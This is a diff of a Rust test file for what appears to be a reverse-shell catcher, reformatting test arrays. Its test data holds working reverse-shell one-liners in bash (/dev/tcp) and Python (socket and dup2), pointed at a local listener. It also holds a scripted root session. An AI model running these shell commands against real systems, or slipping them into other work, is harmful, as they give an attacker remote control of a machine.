@@ -34,7 +34,12 @@ fn a_silent_shell_is_asked_who_it_is() {
     let bed = Bed::new();
     bed.says(
         "198.51.100.7:4444",
-        &[(b"", "id\n"), (b"uid=0(root) gid=0(root) groups=0(root)\n", "uname -a\n"), (b"Linux web 6.1\n", "pwd\n"), (b"/root\n", "exit")],
+        &[
+            (b"", "id\n"),
+            (b"uid=0(root) gid=0(root) groups=0(root)\n", "uname -a\n"),
+            (b"Linux web 6.1\n", "pwd\n"),
+            (b"/root\n", "exit"),
+        ],
     );
     bed.check("shell: id: uid=0(root) gid=0(root) groups=0(root)");
     bed.check("shell: uname: Linux web 6.1");
@@ -58,7 +63,10 @@ fn real_shells_are_caught() {
     for (shell, command) in [
         ("bash", "exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"),
         ("bash", "exec 3<>/dev/tcp/127.0.0.1/PORT; exec sh <&3 >&3 2>&3"),
-        ("python3", "import socket,os,subprocess\ns=socket.create_connection(('127.0.0.1',PORT))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])"),
+        (
+            "python3",
+            "import socket,os,subprocess\ns=socket.create_connection(('127.0.0.1',PORT))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])",
+        ),
     ] {
         if !present(shell) {
             continue;
